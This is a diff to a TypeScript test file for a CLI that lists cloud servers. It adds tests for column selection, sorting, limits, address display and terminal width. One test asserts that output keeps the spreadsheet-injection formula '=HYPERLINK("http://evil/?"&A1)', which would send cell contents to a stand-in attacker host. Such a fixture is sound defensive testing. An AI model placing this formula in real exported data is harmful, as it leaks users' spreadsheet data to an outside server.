@@ -18,13 +18,32 @@ describe('hosts', () => {
     state.addServer('cn-north-4', { name: '生产-数据库', status: 'BUILD' });
     state.addServer('cn-north-4', { name: 'plain name', status: 'BUILD' });
     state.addServer('cn-east-3', { name: 'escape \u001b[31m and "quotes", commas' });
+    state.addServer('cn-east-3', {
+      name: 'many-cards',
+      addresses: {
+        'vpc-a': [
+          { version: '4', addr: '192.168.0.10', 'OS-EXT-IPS:type': 'fixed' },
+          { version: '4', addr: '198.51.100.7', 'OS-EXT-IPS:type': 'floating' },
+          { version: '6', addr: '2001:db8::10', 'OS-EXT-IPS:type': 'fixed' },
+        ],
+        'vpc-b': [
+          { version: '4', addr: '10.1.0.10', 'OS-EXT-IPS:type': 'fixed' },
+          { version: '4', addr: '198.51.100.8', 'OS-EXT-IPS:type': 'floating' },
+        ],
+      },
+    });
+    state.addServer('cn-east-3', {
+      name: 'only-six',
+      status: 'ACTIVE',
+      addresses: { 'vpc-a': [{ version: '6', addr: '2001:db8::66', 'OS-EXT-IPS:type': 'fixed' }] },
+    });
     await place.onboardQuick('production', 0);
     await place.onboardQuick('empty', 1, '--no-sync-now');
   }, 60_000);
   afterAll(() => place.close());
 
   const hosts = (...argv: string[]) => place.run(['hosts', ...argv]);
-  const all = servers + 4;
+  const all = servers + 6;
 
   test('--help ends with examples', () => expectHelp(place, 'hosts'));
 
@@ -63,6 +82,80 @@ describe('hosts', () => {
     for (const row of rows) expect(stringWidth(row.slice(0, row.indexOf('BUILD')))).toBe(at);
   });
 
+  test('--columns picks fields, also from within tags and documents, in every format', async () => {
+    const asked = ['--where', 'status = build', '--columns', 'name,tags.owner,document.flavor.vcpus,privateIps'];
+    const { json } = await hosts(...asked, '--json');
+    expect(json.map(Object.keys)).toEqual([
+      ['name', 'tags.owner', 'document.flavor.vcpus', 'privateIps'],
+      ['name', 'tags.owner', 'document.flavor.vcpus', 'privateIps'],
+    ]);
+    expect(json[0]['document.flavor.vcpus']).toMatch(/^\d+$/);
+    const lines = (await hosts(...asked, '--output', 'ndjson')).stdout.trimEnd().split('\n');
+    expect(lines.map((line) => JSON.parse(line))).toEqual(json);
+    const rows: Record<string, string>[] = parse((await hosts(...asked, '--output', 'csv')).stdout, { columns: true });
+    expect(rows.map(({ name }) => name)).toEqual(json.map(({ name }: { name: string }) => name));
+    const table = (await hosts(...asked)).stdout.split('\n');
+    expect(table[0]).toMatch(/^NAME +TAGS\.OWNER +DOCUMENT\.FLAVOR\.VCPUS +PRIVATEIPS$/);
+    expect((await hosts(...asked, '--query', '[].name')).json).toEqual(json.map(({ name }: { name: string }) => name));
+  });
+
+  test('--columns document prints what the cloud answered, without secrets', async () => {
+    const { json } = await hosts('--limit', '1', '--columns', 'document', '--json');
+    expect(json[0].document).toMatchObject({ status: expect.any(String), id: expect.any(String) });
+    expect(JSON.stringify(json)).not.toContain('user_data');
+  });
+
+  test('--sort orders, what has no value comes last, and --limit cuts', async () => {
+    const names = async (...argv: string[]): Promise<string[]> =>
+      (await hosts(...argv, '--json')).json.map(({ name }: { name: string }) => name);
+    const all = await names();
+    const sorted = [...all].sort((a, b) => Buffer.compare(Buffer.from(a.toLowerCase()), Buffer.from(b.toLowerCase())));
+    expect(await names('--sort', 'name')).toEqual(sorted);
+    expect(await names('--sort', 'name:desc', '--limit', '3')).toEqual([...sorted].reverse().slice(0, 3));
+    expect(await names('--limit', '3')).toEqual(all.slice(0, 3));
+    const keys: { keyName: string | null; vcpus: number }[] = (await hosts('--sort', 'keyName:desc,vcpus', '--json'))
+      .json;
+    const firstWithout = keys.findIndex(({ keyName }) => keyName === null);
+    expect(firstWithout).toBeGreaterThan(0);
+    expect(keys.slice(firstWithout).every(({ keyName }) => keyName === null)).toBe(true);
+    const cores = keys.slice(0, firstWithout).map(({ vcpus }) => vcpus);
+    expect(cores).toEqual([...cores].sort((a, b) => a - b));
+  });
+
+  describe('addresses', () => {
+    const row = async (name: string): Promise<string[]> => {
+      const { stdout } = await hosts('--where', `name = ${name}`, '--columns', 'privateIps,publicIps,ipv6s');
+      return stdout.trimEnd().split('\n')[1]?.split(/ {2,}/) ?? [];
+    };
+
+    test('of several network cards: the first, and how many more', async () => {
+      expect(await row('many-cards')).toEqual(['192.168.0.10 +1', '198.51.100.7 +1', '2001:db8::10']);
+      const { json } = await hosts('--where', 'publicIps = 198.51.100.8', '--json');
+      expect(json).toMatchObject([
+        { name: 'many-cards', privateIps: ['192.168.0.10', '10.1.0.10'], publicIps: ['198.51.100.7', '198.51.100.8'] },
+      ]);
+    });
+
+    test('of a host without IPv4: its IPv6', async () => {
+      const { stdout } = await hosts('--where', 'name = only-six');
+      expect(stdout).toMatch(/only-six +ACTIVE +2001:db8::66 +- /);
+      expect(await row('only-six')).toEqual(['-', '-', '2001:db8::66']);
+    });
+  });
+
+  test.each([80, 100, 140])('on a terminal of %i columns no line is wider, and columns line up', async (columns) => {
+    const { stdout } = await place.run(['hosts', '--where', 'status in (build, shutoff)'], { columns });
+    const [head = '', ...rows] = stdout.trimEnd().split('\n');
+    for (const line of [head, ...rows]) expect(stringWidth(line)).toBeLessThanOrEqual(columns);
+    expect(rows.some((line) => line.includes('…'))).toBe(columns < 140);
+    const at = stringWidth(head.slice(0, head.indexOf('STATUS')));
+    for (const line of rows) expect(stringWidth(line.slice(0, line.search(/BUILD|SHUTOFF/)))).toBe(at);
+  });
+
+  test('what is no terminal gets every cell whole', async () => {
+    expect((await hosts('--search', 'HYPERLINK')).stdout).toContain('=HYPERLINK("http://evil/?"&A1)');
+  });
+
   test('a control character of a name never reaches the terminal', async () => {
     const { stdout } = await hosts('--search', 'escape');
     expect(stdout).toContain('escape  [31m and "quotes", commas');
@@ -73,7 +166,7 @@ describe('hosts', () => {
     [['--account', 'production'], all],
     [['--account', 'empty'], 0],
     [['--account', 'empty,production'], all],
-    [['--region', 'cn-east-3'], servers / 2 + 1],
+    [['--region', 'cn-east-3'], servers / 2 + 3],
     [['--region', 'cn-east-3', '--region', 'cn-north-4'], all],
     [['--region', 'cn-nowhere-1'], 0],
     [['--status', 'BUILD'], 2],
@@ -84,7 +177,7 @@ describe('hosts', () => {
     [['--search', 'quotes", commas'], 1],
     [['--where', 'status = build and name ~ 数据'], 1],
     [['--where', 'status in (build, shutoff)', '--search', 'HYPERLINK'], 1],
-    [['--where', 'account = production and region = cn-east-3'], servers / 2 + 1],
+    [['--where', 'account = production and region = cn-east-3'], servers / 2 + 3],
     [['--where', 'account != production'], 0],
     [['--where', 'createdAt > now'], 0],
   ])('%j chooses %i', async (flags, count) => {
@@ -141,6 +234,10 @@ describe('hosts', () => {
     [['--output', 'xml'], /table, json, ndjson, csv/],
     [['--json', '--output', 'csv'], /--json prints a JSON document/],
     [['--query', '[0]', '--output', 'ndjson'], /--query prints a JSON document/],
+    [['--columns', 'name,nmae'], /no field "nmae" \(did you mean name\?\)/],
+    [['--sort', 'publicIps'], /"publicIps" holds more than one value/],
+    [['--sort', 'nmae:desc'], /no field "nmae"/],
+    [['--limit', '0'], /no whole number from 1/],
     [['--where', 'os ~'], /character 5: Expected expression after ~/],
     [['--where', 'publicip = null'], /no field "publicip" \(did you mean publicIp\?\)/],
   ])('%j is refused', (argv, says) => expectUsage(place, ['hosts', ...argv], says));
